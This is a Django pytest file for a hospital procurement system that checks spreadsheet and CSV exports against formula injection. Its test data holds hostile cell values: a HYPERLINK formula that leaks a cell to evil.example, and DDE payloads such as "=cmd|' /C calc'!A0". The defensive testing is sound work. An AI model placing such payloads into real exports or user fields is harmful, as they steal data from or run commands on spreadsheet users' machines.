"""Spreadsheet formula injection (OWASP "CSV Injection"): every exported cell is inert.

A product named ``=HYPERLINK("http://evil.example/?d="&A2,"click")`` with model ``=1+1``
came out of the hospitals' demand template as live formulas, and the public opening CSV
wrote manufacturers' names as they were typed. Every export is read back here (openpyxl,
csv): no cell is a formula, text starting with ``= + - @ TAB CR`` carries a leading
apostrophe, and the names are still accepted and shown as typed.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation

from bidding.services import bid_submit
from common.spreadsheets import (
    FORMULA_TRIGGERS,
    csv_writer,
    neutralise_text,
    unneutralise_text,
    write_xlsx,
)
from procurement.models import DemandDeclaration, Round
from tests.bidding.conftest import build_world, past_opening
from tests.factories import TEST_PASSWORD

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"click")'
HOSTILE = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1", "\r=1"]


def _client(user=None) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    if user is not None:
        assert client.login(username=user.username, password=TEST_PASSWORD)
    return client


def _xlsx_cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in workbook for row in ws.iter_rows() for cell in row]


def _assert_inert_xlsx(content: bytes) -> list[str]:
    """No cell is a formula; every text cell that starts with a trigger is quoted."""
    cells = _xlsx_cells(content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_TRIGGERS)]
    return texts


def test_neutralise_quotes_every_trigger_and_nothing_else() -> None:
    assert [neutralise_text(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralise_text("阿托伐他汀 20mg") == "阿托伐他汀 20mg"
    assert neutralise_text("'already quoted") == "'already quoted"
    assert neutralise_text(-5) == -5  # numbers stay numbers
    assert neutralise_text(Decimal("-1.5")) == Decimal("-1.5")
    assert [unneutralise_text(neutralise_text(v)) for v in HOSTILE] == HOSTILE
    assert unneutralise_text("'quoted on purpose") == "'quoted on purpose"


def test_write_xlsx_writes_hostile_text_as_quoted_strings_and_numbers_as_numbers() -> None:
    frame = pd.DataFrame({"name": HOSTILE, "quantity": list(range(-3, len(HOSTILE) - 3))})
    texts = _assert_inert_xlsx(write_xlsx({"sheet": frame}))
    # XML reads a carriage return back as a line feed.
    assert texts == ["name", "quantity", *("'" + v.replace("\r", "\n") for v in HOSTILE)]
    values = [c.value for c in _xlsx_cells(write_xlsx({"sheet": frame})) if c.column == 2]
    assert values[1:] == list(range(-3, len(HOSTILE) - 3))


def test_csv_writer_quotes_hostile_text() -> None:
    stream = io.StringIO()
    csv_writer(stream).writerow([*HOSTILE, 12, "plain"])
    row = next(csv.reader(io.StringIO(stream.getvalue())))
    assert row == [*("'" + v for v in HOSTILE), "12", "plain"]


@pytest.mark.django_db
def test_demand_template_of_a_hostile_product_is_inert_and_reads_back_as_typed() -> None:
    """The attack of the issue: a consumable product with a formula for name and model."""
    from tests.factories import user_of
    from tests.procurement.factories import (
        consumable_item,
        hospital_user,
        make_round,
        stent_product,
    )

    office = user_of("office")
    hospital = hospital_user("11")
    maker = user_of("manufacturer")
    item = consumable_item()
    product = stent_product(item, maker.organization, "国械注准20263130001", model="=1+1")
    product.name = HYPERLINK
    product.save(update_fields=["name"])
    round_ = make_round(office=office, kind=Round.Kind.CONSUMABLES, items=[item], open_demand=True)
    client = _client(hospital)
    response = client.get(reverse("procurement:demand-template", args=[round_.code]))
    assert response.status_code == 200
    texts = _assert_inert_xlsx(response.content)
    assert "'" + HYPERLINK in texts
    assert "'=1+1" in texts
    # The hospital fills in the template and uploads it: the quoted model still names the
    # product whose model is "=1+1".
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    header = [c.value for c in sheet[1]]
    sheet.cell(row=2, column=header.index("年度需求量 (quantity, smallest units)") + 1, value=7)
    buffer = io.BytesIO()
    workbook.save(buffer)
    url = reverse("procurement:demand-upload", args=[round_.code])
    with translation.override("en"):
        preview = client.post(url, {"file": _file(buffer.getvalue(), "filled.xlsx")})
    assert preview.status_code == 200, preview.content.decode()[:2000]
    token = preview.context["token"]
    done = client.post(url, {"token": token, "commit": "1"})
    assert done.status_code == 302
    declaration = DemandDeclaration.objects.get()
    assert declaration.product == product and declaration.quantity == 7
    # The demand page shows the name as typed (escaped by the template, not altered).
    page = client.get(reverse("procurement:demand", args=[round_.code])).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A2,&quot;click&quot;)" in page


def _file(content: bytes, name: str):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content)


@pytest.mark.django_db
def test_public_opening_csv_quotes_a_hostile_manufacturer_name() -> None:
    world = build_world()
    from tests.ceremony import open_bids as round_open_bids

    world.bidder.organization.name = "=cmd|' /C calc'!A0"
    world.bidder.organization.save(update_fields=["name"])
    bid_submit(
        round_item=world.round_item,
        specification=world.spec20,
        product=world.bidder_20,
        unit_price=Decimal("1.9876"),
        annual_capacity=100,
        by=world.bidder,
    )
    past_opening(world.round)
    round_open_bids(round_=world.round, by=world.office)
    content = _client().get(reverse("bidding:opening-csv", args=[world.round.code]))
    rows = list(csv.reader(io.StringIO(content.content.decode("utf-8-sig"))))
    assert rows[1][2] == "'=cmd|' /C calc'!A0"
    assert not [v for row in rows for v in row if v.startswith(FORMULA_TRIGGERS)]


@pytest.mark.django_db
def test_price_cut_workbook_quotes_a_hostile_manufacturer_name() -> None:
    from tests.reports.factories import small_awarded_round
    from tests.reports.test_exports_provisional import finish_province_selection

    built = small_awarded_round(code="R-XLS-INJ")
    finish_province_selection(built)
    maker = next(iter(built.makers.values())).organization
    maker.name = maker.name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
    maker.save(update_fields=["name", "name_en"])
    response = _client().get(reverse("reports:public-xlsx", args=[built.round.pk]))
    assert response.status_code == 200
    texts = _assert_inert_xlsx(b"".join(response.streaming_content))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts
